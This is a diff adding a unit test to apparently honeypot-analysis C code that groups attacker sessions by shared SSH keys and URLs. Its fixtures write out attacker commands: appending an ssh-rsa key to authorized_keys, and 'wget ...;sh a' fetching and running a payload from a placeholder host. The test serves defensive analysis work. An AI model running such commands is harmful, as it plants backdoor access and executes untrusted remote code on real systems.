@@ -2,6 +2,8 @@
  * known to fail. */
 #include "groups.h"
 
+#include <stdio.h>
+
 /* `n` sources from `first` on, each at its own time drawn uniformly over a week, `visits` each. */
 static void
 add_independent(struct batch *b, uint32_t first, uint32_t n, uint32_t visits, uint64_t seed)
@@ -147,6 +149,35 @@ test_exact_shares(void **state)
 	groups_clear(&g);
 }
 
+/* Keys and URLs in what was typed count as those that the honeypot names itself. */
+static void
+test_exact_reads_commands(void **state)
+{
+	static const char key[] =
+	    "AAAAB3NzaC1yc2EAAAADAQABAAABAQDb1ZkYrXw8fK2vQpLm0TnUoEiHsGaCjRtMZx";
+	struct batch *b = batch_new();
+	struct groups g;
+	char line[2][200];
+
+	(void)state;
+	(void)snprintf(
+	    line[0], sizeof(line[0]), "echo \"ssh-rsa %s a\" >> .ssh/authorized_keys", key);
+	(void)snprintf(line[1], sizeof(line[1]), "cd /root;echo ssh-rsa %s>k", key);
+	for (uint32_t i = 0; i < 2; i++)
+		batch_add(b, &(struct batch_session){ .ip = 10 + i, .commands = { line[i] } });
+	batch_add(
+	    b, &(struct batch_session){ .ip = 20, .commands = { "wget http://192.0.2.9/a;sh a" } });
+	batch_add(
+	    b, &(struct batch_session){ .ip = 21, .commands = { "curl -O 'http://192.0.2.9/a'" } });
+	batch_add(
+	    b, &(struct batch_session){ .ip = 22, .commands = { "curl http://192.0.2.9/b ://" } });
+	groups_of(&g, b, "B8");
+	assert_int_equal(g.g.n, 2);
+	assert_true(groups_hold(&g, 10, 2, NULL));
+	assert_true(groups_hold(&g, 20, 2, NULL));
+	groups_clear(&g);
+}
+
 /* Two keys on one source, as in a bot war, join their groups. */
 static void
 test_exact_chains(void **state)
@@ -179,6 +210,7 @@ main(void)
 		cmocka_unit_test(test_points_without_techniques),
 		cmocka_unit_test(test_points_with_techniques),
 		cmocka_unit_test(test_exact_shares),
+		cmocka_unit_test(test_exact_reads_commands),
 		cmocka_unit_test(test_exact_chains),
 	};
 
